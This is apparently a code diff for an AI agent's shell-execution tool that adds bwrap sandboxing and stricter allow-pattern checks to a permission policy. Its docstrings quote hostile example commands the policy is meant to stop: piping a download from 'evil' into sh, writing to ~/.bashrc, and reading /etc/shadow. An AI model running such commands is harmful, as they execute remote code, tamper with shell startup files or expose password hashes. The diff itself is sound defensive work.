@@ -27,6 +27,7 @@ import signal
 import subprocess
 import time
 import uuid
+from collections.abc import Sequence
 from dataclasses import dataclass
 from fnmatch import fnmatchcase
 from pathlib import Path
@@ -42,6 +43,8 @@ from ..errors import ShipAgentError
 from ..execution import ApprovalCallback, ApprovalRequest, ToolExecutionContext, current_tool_context
 from ..files import context_files_for
 from ._common import failure
+from ._sandbox import plan_sandbox
+from ._shellwords import allow_blocker
 
 __all__ = [
     "OUTPUT_CAP_BYTES",
@@ -72,32 +75,44 @@ class ShellDecision:
     reason: str
 
 
-def decide_exec_shell(command: str, policy: ExecShellPermission) -> ShellDecision:
-    """Apply ``permissions.execShell`` to ``command`` (pure: no I/O, easy to test exhaustively).
+def decide_exec_shell(
+    command: str, policy: ExecShellPermission, project_root: Path | None = None
+) -> ShellDecision:
+    """Apply ``permissions.execShell`` to ``command``.
 
     Globs use :func:`fnmatch.fnmatchcase` against the whole command and against each part between
     control operators (``;``, ``&&``, ``||``, ``|``, ``&``), so ``deny: ["rm *"]`` also stops
     ``make && rm -rf build``. An allow glob runs a command only when *every* part matches an allow
     glob and there is no ``$(...)`` or backtick substitution; ``allow: ["git status*"]`` must not
-    let ``git status; curl evil | sh`` through.
+    let ``git status; curl evil | sh`` through. Nor does an allow match approve a command that
+    writes through the shell or reads outside the project (:func:`allow_blocker`): ``cat *`` must
+    not approve ``cat x > ~/.bashrc`` or ``cat /etc/shadow``; those go to the mode.
+
+    Pure without ``project_root``; with it, path arguments are resolved against the project
+    (symlinks, globs), so call it from a worker thread.
     """
     text = command.strip()
     parts = [p.strip() for p in _OPERATORS.split(text) if p.strip()]
     for pattern in policy.deny:
         if any(fnmatchcase(candidate, pattern) for candidate in (text, *parts)):
             return ShellDecision("deny", f"the command matches the deny pattern '{pattern}'")
+    unmatched = "no allow pattern matches"
     if (
         policy.allow
         and parts
-        and not _SUBSTITUTION.search(text)
         and all(any(fnmatchcase(part, pattern) for pattern in policy.allow) for part in parts)
     ):
-        return ShellDecision("allow", "the command matches the allow patterns")
+        blocker = (
+            "it runs a substitution" if _SUBSTITUTION.search(text) else allow_blocker(text, project_root)
+        )
+        if blocker is None:
+            return ShellDecision("allow", "the command matches the allow patterns")
+        unmatched = f"the allow patterns match but cannot approve it: {blocker}"
     if policy.mode == "allow":
         return ShellDecision("allow", "permissions.execShell.mode is 'allow'")
     if policy.mode == "deny":
-        return ShellDecision("deny", "permissions.execShell.mode is 'deny' and no allow pattern matches")
-    return ShellDecision("ask", "permissions.execShell.mode is 'ask' and no allow pattern matches")
+        return ShellDecision("deny", f"permissions.execShell.mode is 'deny' and {unmatched}")
+    return ShellDecision("ask", f"permissions.execShell.mode is 'ask' and {unmatched}")
 
 
 def _is_async_callable(callback: Any) -> bool:
@@ -244,11 +259,14 @@ async def run_shell(
     output_dir: Path,
     grace: float = TERM_GRACE_SECONDS,
     cap: int = OUTPUT_CAP_BYTES,
+    sandbox: Sequence[str] = (),
 ) -> ShellRun:
     """Run ``command`` through the shell in its own process group without blocking the event loop.
 
     Output streams to ``output_dir/<stem>.stdout|.stderr`` while only ``cap`` bytes per stream are
-    held in memory. Cancellation of the caller kills the group too.
+    held in memory. Cancellation of the caller kills the group too. ``sandbox`` is a command
+    prefix (:func:`~._sandbox.bwrap_argv`); the group then holds bwrap, and killing it ends the
+    sandbox, whose PID namespace takes every process of the command with it.
     """
     await anyio.Path(output_dir).mkdir(parents=True, exist_ok=True)
     stem = f"{time.strftime('%Y%m%dT%H%M%SZ', time.gmtime())}-{uuid.uuid4().hex[:8]}"
@@ -258,7 +276,7 @@ async def run_shell(
     started = time.monotonic()
     timed_out = stray = False
     proc = await anyio.open_process(
-        [_shell(), "-c", command],
+        [*sandbox, _shell(), "-c", command],
         cwd=cwd,
         stdin=subprocess.DEVNULL,
         stdout=subprocess.PIPE,
@@ -343,9 +361,13 @@ async def exec_shell(
         timeoutMs: time limit in milliseconds; the command and everything it started are killed then.
     """
     ctx = current_tool_context()
-    decision = decide_exec_shell(command, ctx.config.permissions.exec_shell)
+    policy = ctx.config.permissions.exec_shell
+    decision = await anyio.to_thread.run_sync(decide_exec_shell, command, policy, ctx.project_root)
     if decision.action == "deny":
         return failure(f"exec_shell denied: {decision.reason}", denied=True)
+    plan = await anyio.to_thread.run_sync(plan_sandbox, policy, ctx.project_root)
+    if plan.refusal is not None:
+        return failure(f"exec_shell refused: {plan.refusal}", denied=True)
     if decision.action == "ask":
         request = ApprovalRequest("exec_shell", command, ctx.chat_key, ctx.request_id)
         approved, reason = await request_approval(ctx.on_approval, request)
@@ -357,6 +379,7 @@ async def exec_shell(
             cwd=ctx.project_root,
             time_limit=timeoutMs / 1000,
             output_dir=ctx.paths.outputs_dir(ctx.chat_key),
+            sandbox=plan.prefix,
         )
     except OSError as exc:
         return failure(f"could not start the command: {exc}")
